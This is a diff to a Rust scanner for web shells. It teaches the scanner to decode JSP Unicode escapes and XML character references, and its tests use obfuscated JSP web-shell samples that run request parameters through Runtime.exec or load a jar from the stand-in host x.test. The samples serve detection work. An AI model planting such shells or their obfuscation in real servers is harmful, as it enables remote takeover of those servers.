@@ -2345,10 +2345,25 @@ fn jsp_table_dump(t: &str, hits: &mut Vec<Hit>) {
 }
 
 /// The page with Java `\uXXXX` escapes and XML character references (`&#x52;`, `&#82;`)
-/// decoded, and where the first was, when it has enough of them to hide code (eight or more).
+/// decoded, and where the first was, when they can hide code: eight or more of them, one
+/// `\u` escape of a plain ASCII character (`\u0052untime`; text in other scripts is written
+/// this way, code has no need to), or one reference in a JSP document (XML syntax), whose
+/// container decodes them in scriptlets too, named ones (`&quot;`) included.
 fn java_unescaped(t: &str) -> Option<(usize, String)> {
-    let count = t.matches("\\u").count() + t.matches("&#").count();
-    if count < 8 {
+    let xml = ["<jsp:scriptlet", "<jsp:declaration", "<jsp:expression"]
+        .iter()
+        .any(|e| t.contains(e));
+    let references = t.matches("&#").count();
+    let ascii_escape = || {
+        t.match_indices("\\u").take(100_000).any(|(p, _)| {
+            let hex = t[p + 2..].trim_start_matches('u');
+            hex.get(..4)
+                .and_then(|h| u32::from_str_radix(h, 16).ok())
+                .is_some_and(|c| (0x21..0x7f).contains(&c))
+        })
+    };
+    let count = t.matches("\\u").count() + references;
+    if count < 8 && !(xml && references > 0) && !ascii_escape() {
         return None;
     }
     let mut out = String::with_capacity(t.len());
@@ -2373,6 +2388,17 @@ fn java_unescaped(t: &str) -> Option<(usize, String)> {
             end.and_then(|e| u32::from_str_radix(&digits[..e], radix).ok())
                 .and_then(char::from_u32)
                 .map(|c| (c, at.len() - digits.len() + end.unwrap_or(0) + 1))
+        } else if xml {
+            [
+                ("&quot;", '"'),
+                ("&apos;", '\''),
+                ("&lt;", '<'),
+                ("&gt;", '>'),
+                ("&amp;", '&'),
+            ]
+            .iter()
+            .find(|(name, _)| at.starts_with(name))
+            .map(|&(name, c)| (c, name.len()))
         } else {
             None
         };
@@ -3521,6 +3547,21 @@ $process = proc_open($shell, array(0 => array("pipe", "r"), 1 => array("pipe", "
         assert!(found.iter().any(|h| h.why.contains("decoding")));
         let entities = "<jsp:scriptlet>&#x52;untime.getRuntime().exec(request.getParameter(\"c\"));&#59;&#59;&#59;&#59;&#59;&#59;&#59;</jsp:scriptlet>";
         assert!(ids(ScriptKind::Jsp, entities).contains(&"scan.heuristic.jsp_exec"));
+        // One reference is enough in a JSP document, named ones included; one `\u` escape of
+        // a letter is enough anywhere.
+        let one = "<jsp:root><jsp:scriptlet>String c = request.getParameter(&quot;c&quot;); java.lang.&#x52;untime.getRuntime().ex&#101;c(c);</jsp:scriptlet></jsp:root>";
+        assert!(ids(ScriptKind::Jsp, one).contains(&"scan.heuristic.jsp_exec"));
+        let letter =
+            r#"<% String c = request.getParameter("c"); \u0052untime.getRuntime().exec(c); %>"#;
+        assert!(ids(ScriptKind::Jsp, letter).contains(&"scan.heuristic.jsp_exec"));
+        // Text in other scripts, and references in a page that is not a JSP document, are
+        // not decoded: the container leaves `&#82;` in a `<% %>` block as it is.
+        let text = r#"<% String t = "\u4e2d\u6587"; String c = request.getParameter("c"); %><p>&#82;untime.getRuntime().ex&#101;c(c)</p>"#;
+        assert!(
+            ids(ScriptKind::Jsp, text).is_empty(),
+            "{:?}",
+            ids(ScriptKind::Jsp, text)
+        );
         let remote = r#"<% out.print(new URLClassLoader(new URL[]{new URL("http://x.test/a.jar")}).loadClass("A").newInstance()); %>"#;
         assert_eq!(
             ids(ScriptKind::Jsp, remote),
